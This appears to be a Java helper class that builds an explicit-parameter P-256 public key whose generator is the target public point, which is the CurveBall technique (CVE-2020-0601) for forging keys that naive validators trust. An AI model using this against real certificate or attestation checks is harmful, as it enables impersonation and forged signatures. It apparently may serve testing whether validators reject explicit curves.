package dev.keywarden.softtee;

import java.math.BigInteger;
import java.util.HexFormat;
import org.bouncycastle.asn1.ASN1Encodable;
import org.bouncycastle.asn1.ASN1EncodableVector;
import org.bouncycastle.asn1.ASN1Integer;
import org.bouncycastle.asn1.ASN1ObjectIdentifier;
import org.bouncycastle.asn1.DERBitString;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.DERSequence;

/** The key whose private half is 1: P-256 by its parameters, with the public point as generator (CVE-2020-0601). */
final class ExplicitCurve {
    private static final BigInteger P =
            new BigInteger("ffffffff00000001000000000000000000000000ffffffffffffffffffffffff", 16);
    private static final BigInteger N =
            new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);
    private static final String A = "ffffffff00000001000000000000000000000000fffffffffffffffffffffffc";
    private static final String B = "5ac635d8aa3a93e7b3ebbd55769886bc651d06b0cc53b0f63bce3c3e27d2604b";

    private ExplicitCurve() {}

    static byte[] withGenerator(byte[] point) {
        byte[] uncompressed = HexFormat.of().parseHex("04" + HexFormat.of().formatHex(point));
        DERSequence field = sequence(new ASN1ObjectIdentifier("1.2.840.10045.1.1"), new ASN1Integer(P));
        DERSequence curve = sequence(
                new DEROctetString(HexFormat.of().parseHex(A)),
                new DEROctetString(HexFormat.of().parseHex(B)));
        DERSequence parameters =
                sequence(new ASN1Integer(1), field, curve, new DEROctetString(uncompressed), new ASN1Integer(N));
        DERSequence algorithm = sequence(new ASN1ObjectIdentifier("1.2.840.10045.2.1"), parameters);
        return Der.encode(sequence(algorithm, new DERBitString(uncompressed)));
    }

    private static DERSequence sequence(ASN1Encodable... elements) {
        ASN1EncodableVector vector = new ASN1EncodableVector(elements.length);
        vector.addAll(elements);
        return new DERSequence(vector);
    }
}
